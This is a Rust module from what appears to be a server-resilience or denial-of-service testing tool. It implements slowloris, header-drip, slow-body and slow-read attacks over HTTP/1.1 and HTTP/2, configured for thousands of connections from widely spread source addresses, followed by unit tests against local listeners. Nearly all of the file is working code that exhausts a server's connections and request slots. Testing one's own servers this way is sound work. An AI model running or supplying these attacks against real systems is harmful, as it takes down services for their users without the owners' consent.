//! A4 to A7: slow clients that keep the server's connections and slots.

use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, hold};
use crate::connect::{Watch, Way, secure, tcp};
use crate::h1::{head, unfinished};
use crate::h2::frame::{data, headers, stream_id};
use crate::h2::hpack::Block;
use crate::h2::session::Session;
use crate::tally::Unopened;
use crate::wire::Wire;
use std::io;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::time::{sleep, timeout};

/// Between two bytes of a head.
const HEAD_BYTE_MS: u64 = 100;
/// Bytes of a head sent at once before `header-drip` begins, and between its two bytes.
const DRIP_HEAD_BYTES: usize = 31 << 10;
const DRIP_BYTE_MS: u64 = 1;
/// Between two bytes of a body, which says it is this long.
const BODY_BYTE_MS: u64 = 1_000;
const BODY_SAYS: usize = 1 << 20;
/// Between two reads of `slow-read`, and bytes of each.
const READ_MS: u64 = 5_000;
const READ_BYTES: usize = 32;
/// Between two looks whether the server has ended it.
const LOOK_MS: u64 = 500;
/// The kernel's buffer of a slow reader.
const SMALL_BUFFER: u32 = 2_048;
/// Streams of `h2-slow-read` on each connection.
const STREAMS: u32 = 100;
/// What slow readers ask for, if no path is given: the recording origin answers it.
const LARGE: &str = "/__large/4000000";

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "slowloris",
        vector: "A4",
        what: "request headers that come a byte every 100 ms and never end",
        needs: Needs::H1,
        connections: 4_000,
        rate: 1_000,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, slowloris)),
    },
    Scenario {
        name: "header-drip",
        vector: "A5",
        what: "31 KiB of a request header at once, then a byte every ms: costly if it is parsed from the start",
        needs: Needs::H1,
        connections: 50,
        rate: 50,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, header_drip)),
    },
    Scenario {
        name: "slow-body",
        vector: "A6",
        what: "a body of 1 MiB that comes a byte a second",
        needs: Needs::H1,
        connections: 2_000,
        rate: 500,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, slow_body)),
    },
    Scenario {
        name: "h2-slow-body",
        vector: "A6",
        what: "the same in HTTP/2: a DATA frame of one byte a second",
        needs: Needs::H2,
        connections: 2_000,
        rate: 500,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, h2_slow_body)),
    },
    Scenario {
        name: "slow-read",
        vector: "A7",
        what: "a large response read 32 bytes every 5 s, through a small window",
        needs: Needs::H1,
        connections: 1_000,
        rate: 250,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, slow_read)),
    },
    Scenario {
        name: "h2-slow-read",
        vector: "A7",
        what: "100 large responses on each connection, with a window of 0",
        needs: Needs::H2,
        connections: 100,
        rate: 50,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, h2_slow_read)),
    },
];

/// Writes `bytes` one at a time, and looks after each whether the server has ended it.
async fn drip(wire: &mut Wire, bytes: &[u8], pause: Duration) -> io::Result<()> {
    for byte in bytes {
        let closed = timeout(pause, wire.until_closed()).await;
        if closed.is_ok() {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        wire.write_all(std::slice::from_ref(byte)).await?;
        wire.flush().await?;
    }
    Ok(())
}

/// A field that grows for ever, in lines of 64 bytes.
const ENDLESS: &[u8] = b"X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";

async fn slowloris(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let head = unfinished(attack.path_or("/"), attack.host());
    attack.tally.requests.one();
    if wire.write_all(head.as_bytes()).await.is_err() {
        return;
    }
    while drip(&mut wire, ENDLESS, Duration::from_millis(HEAD_BYTE_MS)).await.is_ok() {}
}

async fn header_drip(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let mut head = unfinished(attack.path_or("/"), attack.host()).into_bytes();
    while head.len() < DRIP_HEAD_BYTES {
        head.extend(format!("X-{}: {}\r\n", head.len(), "a".repeat(900)).into_bytes());
    }
    head.extend(b"X-Drip: ");
    attack.tally.requests.one();
    if wire.write_all(&head).await.is_err() {
        return;
    }
    while drip(&mut wire, &[b'a'; 64], Duration::from_millis(DRIP_BYTE_MS)).await.is_ok() {}
}

async fn slow_body(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let fields = format!("Content-Length: {BODY_SAYS}\r\n");
    let head = head("POST", attack.path_or("/"), attack.host(), &fields);
    attack.tally.requests.one();
    if wire.write_all(head.as_bytes()).await.is_err() {
        return;
    }
    while drip(&mut wire, b"a", Duration::from_millis(BODY_BYTE_MS)).await.is_ok() {}
}

async fn h2_slow_body(attack: Arc<Attack>, n: usize) {
    let Some(mut session) = Session::start(&attack, n, 1 << 20).await else { return };
    let stream = stream_id(0);
    let block = Block::browser(true, attack.path_or("/"), attack.host());
    attack.tally.requests.one();
    if session.push(&headers(stream, block.bytes(), false)).await.is_err() {
        return;
    }
    while attack.goes_on() && !session.over() {
        sleep(Duration::from_millis(BODY_BYTE_MS)).await;
        if session.push(&data(stream, b"a", false)).await.is_err() {
            return;
        }
    }
    session.until_closed().await;
}

/// Returns a connection with a small window, and the watch of its end: the end comes after all
/// unread bytes, which a slow reader never reaches.
async fn small(attack: &Attack, n: usize) -> Result<(Wire, Option<Watch>), Unopened> {
    let way = Way { receive_buffer: Some(SMALL_BUFFER), ..attack.way.clone() };
    let stream = tcp(&way, attack.source(n)).await?;
    let watch = Watch::new(&stream);
    Ok((Wire::new(secure(&way, stream).await?, attack.tally.clone()), watch))
}

async fn slow_read(attack: Arc<Attack>, n: usize) {
    let (mut wire, watch) = match small(&attack, n).await {
        Ok(made) => made,
        Err(how) => return attack.tally.unopened(how),
    };
    let head = head("GET", attack.path_or(LARGE), attack.host(), "");
    attack.tally.requests.one();
    if wire.write_all(head.as_bytes()).await.is_err() {
        return;
    }
    let mut buffer = [0; READ_BYTES];
    let mut slept = READ_MS;
    loop {
        if watch.as_ref().is_some_and(Watch::ended) {
            // The rest is read at once, up to the end, which is then counted.
            wire.until_closed().await;
            return;
        }
        if slept >= READ_MS {
            slept = 0;
            if !matches!(wire.read(&mut buffer).await, Ok(1..)) {
                return;
            }
        }
        sleep(Duration::from_millis(LOOK_MS)).await;
        slept = slept.saturating_add(LOOK_MS);
    }
}

async fn h2_slow_read(attack: Arc<Attack>, n: usize) {
    let Some(mut session) = Session::start(&attack, n, 0).await else { return };
    let block = Block::browser(false, attack.path_or(LARGE), attack.host());
    for stream in 0..STREAMS {
        attack.tally.requests.one();
        if session.push(&headers(stream_id(stream), block.bytes(), true)).await.is_err() {
            return;
        }
    }
    session.until_ended(u64::from(STREAMS)).await;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addresses::{Sources, Who};
    use crate::attack::Extra;
    use crate::guard::Target;
    use crate::tally::Tally;
    use tokio::time::Instant;

    /// Returns an attack with one connection, for a long time.
    fn one(target: Target) -> Arc<Attack> {
        Arc::new(Attack {
            way: Way { target, host: "a".to_owned(), tls: None, receive_buffer: None },
            sources: Sources::new(Who::Attacker, 1, Spread::Wide),
            connections: 1,
            rate: 1,
            until: Instant::now() + Duration::from_secs(600),
            tally: Arc::new(Tally::default()),
            extra: Extra::default(),
        })
    }

    /// The rest would be an idle connection, which ends much later.
    #[tokio::test]
    async fn whose_streams_are_all_ended_has_been_cut_off() {
        let (listener, target) = crate::testing::listener().await;
        let server = tokio::spawn(async move {
            let (stream, _) = listener.accept().await.unwrap();
            crate::testing::serve_h2(stream, 503).await;
        });
        let attack = one(target);
        timeout(Duration::from_secs(60), h2_slow_read(attack.clone(), 0)).await.unwrap();
        server.await.unwrap();
        let report = attack.tally.report();
        assert_eq!((report.closed_by_server, report.left_by_us), (1, 0));
        assert_eq!((report.requests, report.held_ms.unwrap().count), (u64::from(STREAMS), 1));
    }

    /// At 32 bytes every 5 s the end would be seen after hours.
    #[tokio::test]
    async fn a_slow_reader_sees_at_once_that_it_was_cut_off() {
        let (listener, target) = crate::testing::listener().await;
        let server = tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.unwrap();
            stream.write_all(&[b'x'; 2_000]).await.unwrap();
            stream.set_zero_linger().unwrap();
        });
        let attack = one(target);
        timeout(Duration::from_secs(60), slow_read(attack.clone(), 0)).await.unwrap();
        server.await.unwrap();
        let report = attack.tally.report();
        assert_eq!((report.opened, report.reset_by_server, report.left_by_us), (1, 1, 0));
    }
}
